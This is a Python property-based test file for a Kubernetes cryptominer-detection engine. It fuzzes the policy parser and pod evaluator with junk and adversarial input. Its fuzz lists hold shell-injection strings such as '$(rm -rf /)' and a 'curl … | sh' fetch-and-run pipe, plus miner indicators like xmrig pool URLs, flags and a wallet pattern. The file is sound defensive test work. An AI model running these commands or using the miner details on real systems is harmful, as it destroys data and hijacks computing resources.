"""Property-based tests: random and adversarial policies and pods never break detection.

Random MinerPolicies (valid ones built over the CRD's shape, and arbitrary JSON-like
objects) and pods (arbitrary nested junk in every field, huge strings, all of Unicode
with control characters and lone surrogates, shell metacharacters, miner indicators) are
thrown at the pure engine. It must never raise (``parse_policy`` raises only
``PolicyInvalid``), never hang (pytest-timeout ends a run that would; there is no
per-example time limit, since this is about behaviour, not speed), be deterministic (the same
input, also deep-copied, gives equal verdicts with evidence in the same order), keep
evidence short and printable, and never quote Secret references or unmatched env values.
"""

from __future__ import annotations

import copy
import operator
from collections.abc import Mapping
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
import yaml
from hypothesis import HealthCheck, assume, event, given, settings
from hypothesis import strategies as st

from minerguard.domain.detection import Evidence, Verdict, evaluate, evaluate_node, prepare, spec_findings
from minerguard.domain.kinds import METRIC_SIGNAL_KINDS, SIGNAL_KINDS
from minerguard.domain.patterns import PatternSet
from minerguard.domain.policy import ACTION_NAMES, Policy, PolicyInvalid, parse_policy
from minerguard.domain.workload import Workload, workload_from_pod, workloads_from_manifest

pytestmark = pytest.mark.unit

ROOT = Path(__file__).resolve().parents[2]
PACK = [
    parse_policy(doc)
    for folder in ("policies", "examples")
    for path in sorted((ROOT / "manifests" / folder).glob("*.yaml"))
    for doc in yaml.safe_load_all(path.read_text(encoding="utf-8"))
]

PROFILE = settings(
    max_examples=120,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much],
)

# ------------------------------------------------------------------ strings

WALLET = "4" + ("AbCdEfGh" * 12)[:94]
MINER_WORDS = [
    "xmrig",
    "/tmp/xmrig",
    "./kdevtmpfsi",
    "kswapd0",
    "sh",
    "-c",
    "/bin/bash",
    "nohup",
    "exec",
    "env",
    "busybox",
    "stratum+tcp://pool.supportxmr.com:3333",
    "stratum+ssl://x.nanopool.org:14444",
    "pool.minexmr.com:4444",
    "127.0.0.1:3333",
    "http://example.com:3333/x",
    "[::1]:3333",
    "user:pass@host.example:5555",
    "--donate-level=1",
    "--coin",
    "monero",
    "-a",
    "rx/0",
    "--algo=cn/r",
    "--cpu-priority",
    WALLET,
    "0x" + "ab" * 20,
    "xmrig/xmrig:latest",
    "docker.io/metal3d/xmrig@sha256:" + "a" * 64,
]
HOSTILE_WORDS = [
    "$(rm -rf /)",
    "`id`",
    "; curl http://x | sh &",
    "a'b\"c",
    "{}<>()|&;",
    "\\",
    "\x00",
    "\x1b[2J",
    "\u202e",
    "\ud800",
    "\udfff",
    "\u2028",
    "\r\n",
    "\t",
    "💣",
    "=",
    ":",
    "//",
    "@",
    "[",
    "]",
]
ANY_CHAR = st.characters(exclude_categories=())  # every code point, lone surrogates included
WORD = st.one_of(st.sampled_from(MINER_WORDS), st.sampled_from(HOSTILE_WORDS), st.text(ANY_CHAR, max_size=12))
HUGE = st.builds(operator.mul, st.sampled_from(["a", "x:1 ", "4", " ", "\x00", "xmrig ", "é"]), st.integers(0, 70_000))
TEXT = st.one_of(
    st.lists(WORD, max_size=8).map(" ".join),
    st.lists(WORD, max_size=8).map(";".join),
    st.text(ANY_CHAR, max_size=40),
    HUGE,
)
SCALAR = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.integers(min_value=10**4000, max_value=10**4200),
    st.floats(allow_nan=True, allow_infinity=True),
    TEXT,
)
JUNK = st.recursive(
    SCALAR,
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(ANY_CHAR, max_size=8), children, max_size=4)
    ),
    max_leaves=12,
)


def maybe(strategy: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """Mostly the plausible shape, sometimes anything at all."""
    return st.one_of(strategy, strategy, strategy, JUNK)


# ------------------------------------------------------------------ pods

ENV_ENTRY = st.fixed_dictionaries(
    {},
    optional={
        "name": maybe(st.sampled_from(["POOL", "WALLET", "A", "", "B C"])),
        "value": maybe(TEXT),
        "valueFrom": maybe(st.just({"secretKeyRef": {"name": "s", "key": "k"}})),
    },
)
CONTAINER = st.fixed_dictionaries(
    {},
    optional={
        "name": maybe(st.sampled_from(["c", "miner", "c\n2", "x" * 300])),
        "image": maybe(st.one_of(st.sampled_from(MINER_WORDS), TEXT)),
        "command": maybe(st.lists(maybe(TEXT), max_size=4)),
        "args": maybe(st.lists(maybe(TEXT), max_size=6)),
        "env": maybe(st.lists(maybe(ENV_ENTRY), max_size=4)),
        "securityContext": maybe(st.fixed_dictionaries({"privileged": maybe(st.booleans())})),
        "resources": maybe(
            st.fixed_dictionaries({}, optional={"limits": maybe(st.fixed_dictionaries({"cpu": maybe(TEXT)}))})
        ),
    },
)
POD_SPEC = st.fixed_dictionaries(
    {},
    optional={
        "containers": maybe(st.lists(maybe(CONTAINER), max_size=3)),
        "initContainers": maybe(st.lists(maybe(CONTAINER), max_size=2)),
        "ephemeralContainers": maybe(st.lists(maybe(CONTAINER), max_size=1)),
        "hostNetwork": maybe(st.booleans()),
        "hostPID": maybe(st.booleans()),
        "volumes": maybe(st.lists(maybe(st.just({"name": "v", "hostPath": {"path": "/"}})), max_size=2)),
        "nodeName": maybe(TEXT),
    },
)
METADATA = st.fixed_dictionaries(
    {},
    optional={
        "name": maybe(TEXT),
        "namespace": maybe(st.sampled_from(["apps", "kube-system", "default", ""])),
        "labels": maybe(st.dictionaries(st.sampled_from(["app", "tier", "x/y"]), maybe(TEXT), max_size=3)),
        "ownerReferences": maybe(st.lists(maybe(st.fixed_dictionaries({"controller": maybe(st.booleans())})))),
        "deletionTimestamp": maybe(st.none()),
    },
)
STATUS = st.fixed_dictionaries(
    {},
    optional={
        "phase": maybe(TEXT),
        "containerStatuses": maybe(
            st.lists(maybe(st.fixed_dictionaries({"name": maybe(TEXT), "imageID": maybe(TEXT)})), max_size=2)
        ),
    },
)
POD = st.fixed_dictionaries(
    {"kind": maybe(st.just("Pod"))},
    optional={
        "apiVersion": maybe(st.just("v1")),
        "metadata": maybe(METADATA),
        "spec": maybe(POD_SPEC),
        "status": maybe(STATUS),
    },
)
MANIFEST = st.one_of(
    POD,
    st.builds(
        lambda kind, meta, template: {"kind": kind, "metadata": meta, "spec": {"template": template}},
        maybe(st.sampled_from(["Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "Job", "Service", "Foo"])),
        maybe(METADATA),
        maybe(st.fixed_dictionaries({}, optional={"metadata": maybe(METADATA), "spec": maybe(POD_SPEC)})),
    ),
    st.builds(
        lambda template: {"kind": "CronJob", "spec": {"jobTemplate": {"spec": {"template": template}}}},
        maybe(st.fixed_dictionaries({"spec": maybe(POD_SPEC)})),
    ),
    JUNK,
)

# ------------------------------------------------------------------ valid policies, over the CRD's shape

GLOBS = ["xmrig*", "*xmrig*", "*miner*", "k*d", "*", "?", "[!a]*", "[a-", "*.pool.io", "x*y*z", "*:*", "4*", "W-*"]
REGEXES = [
    "xmrig",
    "(^|\\.)supportxmr\\.com$",
    "^k.*d$",
    "--x(=| )[0-9]+",
    "(?:^|\\W)(0x[0-9a-f]{8})(?:\\W|$)",
    "(a+)+$",
    "(a|aa)*b",
    "(.*a){20}",
    "\\Axmrig",
    "xmrig\\z",
    "(?-m:^xmrig)",
    "[ab]*a[ab]{20}",
    "(" + "|".join(f"w{i}" for i in range(60)) + ")",
    "\\bmonero\\b",
    ".",
    "(?s).+",
]
STRENGTH = st.sampled_from(["Strong", "Weak"])
INDICATOR = st.one_of(
    st.fixed_dictionaries(
        {"glob": st.sampled_from(GLOBS)}, optional={"strength": STRENGTH, "note": st.text(max_size=8)}
    ),
    st.fixed_dictionaries({"regex": st.sampled_from(REGEXES)}, optional={"strength": STRENGTH}),
)
SELECTOR = st.one_of(
    st.just({}),
    st.fixed_dictionaries(
        {"matchLabels": st.dictionaries(st.sampled_from(["app", "tier"]), st.sampled_from(["w", ""]))}
    ),
    st.fixed_dictionaries(
        {
            "matchExpressions": st.lists(
                st.one_of(
                    st.fixed_dictionaries(
                        {"key": st.just("app"), "operator": st.sampled_from(["In", "NotIn"]), "values": st.just(["w"])}
                    ),
                    st.fixed_dictionaries(
                        {"key": st.just("app"), "operator": st.sampled_from(["Exists", "DoesNotExist"])}
                    ),
                ),
                max_size=2,
            )
        }
    ),
)
SIGNALS = st.fixed_dictionaries(
    {},
    optional={
        "images": st.lists(INDICATOR, max_size=3),
        "imageDigests": st.lists(st.fixed_dictionaries({"digest": st.just("sha256:" + "a" * 64)}), max_size=1),
        "pools": st.fixed_dictionaries(
            {},
            optional={
                "schemes": st.lists(st.sampled_from(["stratum+tcp", "stratum+ssl", "ws"]), max_size=2),
                "hosts": st.lists(INDICATOR, max_size=3),
                "ports": st.lists(
                    st.fixed_dictionaries({"port": st.sampled_from([3333, 80, 4444])}, optional={"strength": STRENGTH}),
                    max_size=2,
                ),
            },
        ),
        "processes": st.lists(INDICATOR, max_size=3),
        "arguments": st.lists(INDICATOR, max_size=3),
        "wallets": st.fixed_dictionaries(
            {}, optional={"monero": st.booleans(), "patterns": st.lists(INDICATOR, max_size=2)}
        ),
        "cpu": st.fixed_dictionaries(
            {},
            optional={
                "pod": st.fixed_dictionaries({"threshold": st.floats(0.05, 10)}),
                "node": st.fixed_dictionaries({"threshold": st.floats(0.05, 1)}),
                "unaccounted": st.fixed_dictionaries({"cores": st.floats(0.05, 64)}),
            },
        ),
    },
).filter(bool)
VALID_POLICY = st.builds(
    lambda mode, signals, actions, scope, match: {
        "apiVersion": "minerguard.io/v1alpha1",
        "kind": "MinerPolicy",
        "metadata": {"name": "random", "generation": 1},
        "spec": {
            "mode": mode,
            "signals": signals,
            "actions": actions if mode == "Audit" or actions else [{"name": "quarantine"}],
            "scope": scope,
            "match": match,
        },
    },
    st.sampled_from(["Enforce", "Audit"]),
    SIGNALS,
    st.lists(
        st.fixed_dictionaries(
            {"name": st.sampled_from(ACTION_NAMES)}, optional={"when": st.sampled_from(["Always", "HostAccess"])}
        ),
        max_size=4,
        unique_by=lambda a: a["name"],
    ),
    st.fixed_dictionaries(
        {},
        optional={
            "excludedNamespaces": st.lists(st.sampled_from(["kube-system", "apps"]), max_size=2),
            "podSelector": SELECTOR,
            "namespaceSelector": SELECTOR,
            "excludedPodSelector": SELECTOR,
        },
    ),
    st.fixed_dictionaries(
        {},
        optional={
            "weakSignalsRequired": st.integers(2, 10),
            "requireSignals": st.lists(st.sampled_from(SIGNAL_KINDS), max_size=2, unique=True),
        },
    ),
)
POLICY = st.one_of(VALID_POLICY.map(parse_policy), st.sampled_from(PACK))
IN_SCOPE_POLICY = st.one_of(
    VALID_POLICY.map(lambda obj: parse_policy({**obj, "spec": {**obj["spec"], "scope": {}}})), st.sampled_from(PACK)
)
NS_LABELS = st.one_of(st.none(), st.dictionaries(st.sampled_from(["app", "tier"]), st.sampled_from(["w", "x"])))


def metric(kind: str, strength: str) -> Evidence:
    return Evidence(signal=kind, strength=strength, container="", detail=f"{kind} high", value="0.99")


METRICS = st.lists(st.builds(metric, st.sampled_from(METRIC_SIGNAL_KINDS), STRENGTH), max_size=3)


# ------------------------------------------------------------------ helpers


def all_text(verdict: Verdict) -> str:
    parts = [verdict.reason]
    for e in verdict.evidence:
        parts += [e.signal, e.strength, e.container, e.detail, e.value, e.query, e.window]
    return "\n".join(parts)


def check_evidence(verdict: Verdict) -> None:
    assert isinstance(verdict.matched, bool)
    assert len(verdict.reason) <= 300 and verdict.reason.isprintable()
    for e in verdict.evidence:
        assert len(e.detail) <= 200 and len(e.value) <= 200 and len(e.container) <= 253
        assert e.detail.isprintable() and e.value.isprintable() and e.container.isprintable()
    if not verdict.matched:
        assert verdict.actions == ()


# ------------------------------------------------------------------ properties


@PROFILE
@given(obj=JUNK | st.dictionaries(st.sampled_from(["apiVersion", "kind", "metadata", "spec", "status"]), JUNK))
def test_parse_policy_of_anything_raises_only_policy_invalid(obj: Any) -> None:
    try:
        policy = parse_policy(obj)
    except PolicyInvalid as exc:
        assert exc.reason in ("InvalidSpec", "InvalidRegex", "InvalidSelector", "UnknownAction")
        assert exc.message and str(exc).startswith(exc.reason)
    else:
        assert isinstance(policy, Policy)


@PROFILE
@given(obj=VALID_POLICY, junk=JUNK, path=st.lists(st.sampled_from(["spec", "signals", "scope", "match", "pools"])))
def test_parse_policy_of_a_damaged_valid_policy_raises_only_policy_invalid(
    obj: Any, junk: Any, path: list[str]
) -> None:
    damaged = copy.deepcopy(obj)
    node = damaged
    for key in path:
        child = node.get(key) if isinstance(node, dict) else None
        if not isinstance(child, dict):
            break
        node = child
    if isinstance(node, dict) and node:
        node[sorted(node)[0]] = junk  # replace one field with junk
    try:
        parse_policy(damaged)
    except PolicyInvalid:
        pass


@PROFILE
@given(obj=VALID_POLICY)
def test_valid_policies_parse_and_parse_the_same_twice(obj: dict[str, Any]) -> None:
    assert parse_policy(obj) == parse_policy(copy.deepcopy(obj))


@PROFILE
@given(doc=MANIFEST)
def test_workload_parsing_never_raises_and_is_deterministic(doc: Any) -> None:
    workloads = workloads_from_manifest(doc)
    assert all(isinstance(w, Workload) for w in workloads)
    assert workloads == workloads_from_manifest(copy.deepcopy(doc))
    workload = workload_from_pod(doc)
    assert workload == workload_from_pod(copy.deepcopy(doc))
    assert all(isinstance(c.name, str) and isinstance(c.image, str) for c in workload.containers)


@PROFILE
@given(policy=POLICY, doc=MANIFEST, labels=NS_LABELS, metrics=METRICS)
def test_evaluate_never_raises_and_is_deterministic(
    policy: Policy, doc: Any, labels: Mapping[str, str] | None, metrics: list[Evidence]
) -> None:
    workloads = workloads_from_manifest(doc) or [workload_from_pod(doc)]
    copied = copy.deepcopy(doc)
    fresh = workloads_from_manifest(copied) or [workload_from_pod(copied)]
    for workload, twin in zip(workloads, fresh, strict=True):
        verdict = evaluate(policy, workload, labels, metrics)
        event(f"matched: {verdict.matched}, evidence: {bool(verdict.evidence)}")
        check_evidence(verdict)
        assert verdict == evaluate(policy, workload, labels, metrics)  # from the prepared workload
        again = evaluate(policy, twin, copy.deepcopy(labels), list(metrics))
        assert again == verdict
        assert [e.detail for e in again.evidence] == [e.detail for e in verdict.evidence]
        assert spec_findings(policy, workload) == spec_findings(policy, twin)


@PROFILE
@given(policy=POLICY, node=TEXT, labels=NS_LABELS, metrics=METRICS)
def test_evaluate_node_never_raises_and_is_deterministic(
    policy: Policy, node: str, labels: Mapping[str, str] | None, metrics: list[Evidence]
) -> None:
    verdict = evaluate_node(policy, node, labels, metrics)
    check_evidence(verdict)
    assert verdict == evaluate_node(policy, node, copy.deepcopy(labels), list(metrics))
    assert set(verdict.actions) <= {"cordon", "taint"}


@PROFILE
@given(policy=POLICY, doc=POD)
def test_pre_checks_and_sharing_never_change_the_verdict(policy: Policy, doc: Any) -> None:
    """The one-pass pre-checks and the per-workload preparation are optimisations only:
    with every pre-check answering "maybe", the evidence is the same, in the same order."""
    workload = workload_from_pod(doc)
    prepared = prepare(workload)
    evaluate(policy, workload, {}, prepared=prepared)  # fills the shared preparation
    fast = evaluate(policy, workload, {}, prepared=prepared)
    with (
        mock.patch.object(PatternSet, "may_match", lambda self, value: bool(self.patterns)),
        mock.patch.object(PatternSet, "may_match_lines", lambda self, lines: bool(self.patterns)),
    ):
        slow = evaluate(policy, workload_from_pod(copy.deepcopy(doc)), {})
    event(f"evidence: {min(len(fast.evidence), 3)}")
    assert fast == slow


SECRET = "S3cr3t-" + "Q" * 12
# No hex digit and nothing found in MINER_WORDS, so that no evidence can contain it by chance.
BENIGN = st.text(alphabet="ghjkmnpqtuvwyz", min_size=16, max_size=40).map(lambda s: "benign-" + s)


@PROFILE
@given(
    benign=BENIGN,
    miner_env=st.lists(st.sampled_from(MINER_WORDS), min_size=1, max_size=4).map(" ".join),
    containers=st.lists(maybe(CONTAINER), max_size=2),
    secret_ref=st.sampled_from(["secretKeyRef", "configMapKeyRef"]),
)
def test_evidence_never_quotes_secret_references_or_unmatched_env_values(
    benign: str, miner_env: str, containers: list[Any], secret_ref: str
) -> None:
    assume(benign[7:] not in repr(containers))  # the other containers must not hold it by chance
    env = [
        {"name": "FROM_SECRET", "valueFrom": {secret_ref: {"name": SECRET, "key": SECRET}}},
        {"name": "BOTH", "value": SECRET + " " + WALLET, "valueFrom": {secret_ref: {"name": "s", "key": "k"}}},
        {"name": "PLAIN", "value": benign},
        {"name": "MINER", "value": miner_env},
    ]
    doc = {
        "kind": "Pod",
        "metadata": {"name": "p", "namespace": "apps"},
        "spec": {"containers": [{"name": "c", "image": "app", "env": env}, *containers]},
    }
    for policy in PACK:
        text = all_text(evaluate(policy, workload_from_pod(doc), {}))
        assert SECRET not in text and "S3cr3t" not in text
        assert benign not in text and benign[7:] not in text


@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@pytest.mark.timeout(300)
@given(
    policy=IN_SCOPE_POLICY,
    unit=st.sampled_from(
        [
            "xmrig ",
            "x:1 ",
            "a",
            "--donate-level=",
            "stratum+tcp://p",
            "h.nanopool.org:",
            WALLET + " ",
            "$(x);",
            "\ud800",
        ]
    ),
    containers=st.integers(1, 60),
)
def test_megabyte_pods_are_evaluated_in_bounded_work(policy: Policy, unit: str, containers: int) -> None:
    per_container = 2_000_000 // containers
    value = unit * (min(per_container, 60_000) // len(unit))
    items = max(1, per_container // max(1, len(value)))
    doc = {
        "kind": "Pod",
        "metadata": {"name": "big", "namespace": "apps"},
        "spec": {
            "containers": [
                {
                    "name": f"c{i}",
                    "image": "app",
                    "args": [value] * items,
                    "env": [{"name": "E", "value": value}] * items,
                }
                for i in range(containers)
            ]
        },
    }
    check_evidence(evaluate(policy, workload_from_pod(doc), {}))
